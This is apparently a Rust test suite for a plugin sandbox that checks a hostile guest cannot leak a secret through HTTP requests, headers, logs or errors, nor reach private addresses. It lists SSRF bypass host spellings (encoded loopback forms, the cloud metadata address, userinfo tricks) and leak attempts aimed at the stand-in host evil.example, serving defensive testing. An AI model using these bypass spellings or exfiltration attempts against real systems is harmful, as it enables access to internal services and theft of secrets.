//! The way out: what a guest tries with requests, and by which channels it could carry a secret off.

use std::sync::{Arc, Mutex};

use patchbay::{
    account::{Account, Grant},
    card::AdapterError,
    config::Limits,
    plugin::Error,
};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{TcpListener, TcpStream},
    task::JoinSet,
    time,
};

use super::{
    arena::{Arena, ROUNDS, nz, small},
    pure, reaching,
};
use crate::stage::{SECRET, Stage, account};

/// What the server does with a request.
#[derive(Debug, Clone, Copy)]
enum Manner {
    /// Gives back all that it got.
    Echo,
    /// Sends the client to an address that was not granted.
    Redirect,
    /// One byte now and then, without an end.
    Drip,
    /// As much as is allowed, and all of it all but the secret.
    Flood,
}

struct Server {
    url: String,
    requests: Arc<Mutex<Vec<String>>>,
    _running: JoinSet<()>,
}

impl Server {
    async fn start(manner: Manner) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let requests: Arc<Mutex<Vec<String>>> = Arc::default();
        let (seen, mut running) = (Arc::clone(&requests), JoinSet::new());
        running.spawn(async move {
            let mut open = JoinSet::new();
            while let Ok((stream, _)) = listener.accept().await {
                open.spawn(converse(stream, manner, Arc::clone(&seen)));
            }
        });
        Self { url, requests, _running: running }
    }

    fn seen(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }
}

async fn converse(mut stream: TcpStream, manner: Manner, seen: Arc<Mutex<Vec<String>>>) {
    let mut text = String::new();
    let mut chunk = vec![0; 4096];
    while let Ok(count @ 1..) = stream.read(&mut chunk).await {
        text.push_str(&String::from_utf8_lossy(chunk.get(..count).unwrap()));
        let Some((head, body)) = text.split_once("\r\n\r\n") else { continue };
        let length = head.lines().find_map(|line| line.strip_prefix("content-length: "));
        if body.len() < length.map_or(0, |length| length.parse().unwrap()) {
            continue;
        }
        let request = std::mem::take(&mut text);
        seen.lock().unwrap().push(request.clone());
        let answer = match manner {
            Manner::Echo => {
                format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n{request}", request.len())
            }
            Manner::Redirect => "HTTP/1.1 302 Found\r\nlocation: http://169.254.169.254/latest\r\n\
                 content-length: 0\r\n\r\n"
                .to_owned(),
            Manner::Drip => "HTTP/1.1 200 OK\r\ncontent-length: 1000000\r\n\r\n".to_owned(),
            Manner::Flood => {
                let nearly = SECRET.trim_end_matches('p');
                let body = nearly.repeat((4 << 20) / nearly.len());
                format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n{body}", body.len())
            }
        };
        if stream.write_all(answer.as_bytes()).await.is_err() {
            return;
        }
        while matches!(manner, Manner::Drip) && stream.write_all(b"x").await.is_ok() {
            time::sleep(time::Duration::from_millis(5)).await;
        }
    }
}

/// The hostile guest, which asks for this server and is granted it.
async fn arena(server: &Server, limits: Limits) -> Arena {
    let stage = Stage::new(limits);
    let mut account = Account::clone(&account("shop"));
    account.settings.insert("target".to_owned(), server.url.clone());
    account.grants.push(Grant { private: true, ..Grant::new(server.url.clone()) });
    let attacker = stage.plugins.bind(stage.hostile().await, Arc::new(account)).unwrap();
    Arena::with(stage, attacker).await
}

fn patient() -> Limits {
    Limits { cpu_ms: nz(2000), pure_cpu_ms: nz(2000), ..small() }
}

#[tokio::test]
async fn a_server_that_drips_costs_its_caller_the_time_and_nobody_else() {
    let server = Server::start(Manner::Drip).await;
    let arena = arena(&server, Limits { wall_ms: nz(60), ..patient() }).await;
    let slow = async || reaching(&arena.attacker, "http", &server.url).await;
    arena.endures(ROUNDS, &["timed-out"], slow).await;
    let sent = u64::try_from(server.seen().len()).unwrap();
    assert!((1..=ROUNDS).contains(&sent), "each was sent once at most: {sent}");
}

#[tokio::test]
async fn what_the_host_works_on_answers_is_of_the_callers_time() {
    let limits = || Limits { cpu_ms: nz(200), memory_bytes: 64 << 20, ..small() };
    let calls = limits().http_calls;
    let server = Server::start(Manner::Flood).await;
    let flooded = arena(&server, limits()).await;
    let asked = async || reaching(&flooded.attacker, "http-flood", &server.url).await;
    flooded.endures(2, &["cpu-spent"], asked).await;
    let sent = server.seen().len();
    assert!(sent < 2 * usize::try_from(calls).unwrap(), "{sent} large answers were searched");

    let server = Server::start(Manner::Echo).await;
    let honest = arena(&server, limits()).await;
    let said = reaching(&honest.attacker, "http-flood", &server.url).await.unwrap();
    assert!(said.starts_with(&format!("spent at {calls}: ")), "small answers cost little: {said}");
}

#[tokio::test]
async fn a_redirect_to_a_private_address_is_handed_back_and_not_followed() {
    let server = Server::start(Manner::Redirect).await;
    let arena = arena(&server, patient()).await;
    let asked = async || {
        let said = reaching(&arena.attacker, "http", &server.url).await?;
        assert_eq!(said, "Ok(302)");
        Ok(())
    };
    arena.endures(ROUNDS, &["ok"], asked).await;
    // And it is denied to a guest that follows it by itself.
    let said = reaching(&arena.attacker, "http", "http://169.254.169.254/latest").await.unwrap();
    assert!(said.contains("Denied"), "{said}");
}

#[tokio::test]
async fn headers_that_break_out_of_their_line_are_not_sent() {
    let server = Server::start(Manner::Echo).await;
    let arena = arena(&server, patient()).await;
    let attacks = ["leak-injected", "leak-injected-name", "leak-smuggled", "leak-host-header"];
    for attack in attacks {
        let asked = async || {
            let said = reaching(&arena.attacker, attack, &server.url).await?;
            assert!(said.contains("Invalid"), "{attack}: {said}");
            Ok(())
        };
        arena.endures(ROUNDS, &["ok"], asked).await;
    }
    assert_eq!(server.seen(), Vec::<String>::new());
    assert_eq!(arena.refused("http-invalid"), ROUNDS * 4);
}

#[tokio::test]
async fn a_guest_reaches_no_private_address_in_any_spelling() {
    let server = Server::start(Manner::Echo).await;
    let arena = arena(&server, patient()).await;
    let port = server.url.rsplit(':').next().unwrap();
    for host in [
        "localhost",
        "127.1",
        "0x7f000001",
        "2130706433",
        "0177.0.0.1",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "allowed.example@127.0.0.2",
        "127.0.0.2#@allowed.example",
        "169.254.169.254",
        "metadata.google.internal",
        "0.0.0.0",
    ] {
        for url in [format!("http://{host}/"), format!("https://{host}:{port}/")] {
            let said = reaching(&arena.attacker, "http", &url).await.unwrap();
            assert!(said.contains("Denied") || said.contains("Invalid"), "{url}: {said}");
        }
    }
    assert_eq!(server.seen(), Vec::<String>::new());
}

#[tokio::test]
async fn a_secret_goes_only_where_it_was_granted_and_never_comes_back() {
    let server = Server::start(Manner::Echo).await;
    let arena = arena(&server, patient()).await;
    for attack in ["leak-url", "leak-header", "leak-body"] {
        let target = format!("{}/x", server.url);
        let sent = async || {
            let said = reaching(&arena.attacker, attack, &target).await?;
            assert!(!said.contains(SECRET) && said.contains("200"), "{attack}: {said}");
            Ok(())
        };
        arena.endures(ROUNDS, &["ok"], sent).await;
        // Elsewhere nothing is sent, with or without it.
        let said = reaching(&arena.attacker, attack, "https://evil.example").await.unwrap();
        assert!(said.contains("Denied") && !said.contains(SECRET), "{attack}: {said}");
    }
    assert!(server.seen().iter().all(|request| request.contains(SECRET)), "it was put in");
    let said = reaching(&arena.attacker, "leak-host", "evil.example").await.unwrap();
    assert!(said.contains("Denied") || said.contains("Invalid"), "{said}");
}

#[tokio::test]
async fn no_channel_of_a_guest_carries_a_secret_out() {
    let server = Server::start(Manner::Echo).await;
    let arena = arena(&server, patient()).await;
    for attack in ["leak-reply", "leak-split", "leak-kv", "leak-log", "leak"] {
        let said = reaching(&arena.attacker, attack, "").await.unwrap();
        let letters: String = said.chars().filter(|letter| *letter != '-').collect();
        let plain: String = SECRET.chars().filter(|letter| *letter != '-').collect();
        assert!(!said.contains(SECRET) && !letters.contains(&plain), "{attack}: {said}");
    }
    let Error::Trapped { message } = pure(&arena.attacker, "leak-panic", "").await.unwrap_err()
    else {
        panic!("it panics")
    };
    assert!(!message.contains(SECRET), "{message}");
    let refused = reaching(&arena.attacker, "leak-error", "").await.unwrap_err();
    let Error::Adapter(AdapterError::Unavailable(text)) = refused else { panic!("{refused}") };
    assert!(!text.contains(SECRET), "{text}");
    // Knowing it is no help: what comes from outside is taken out on its way.
    let refused = reaching(&arena.attacker, "unauthorized", SECRET).await.unwrap_err();
    assert!(!format!("{refused:?}").contains(SECRET));
    arena.is_clean();
}
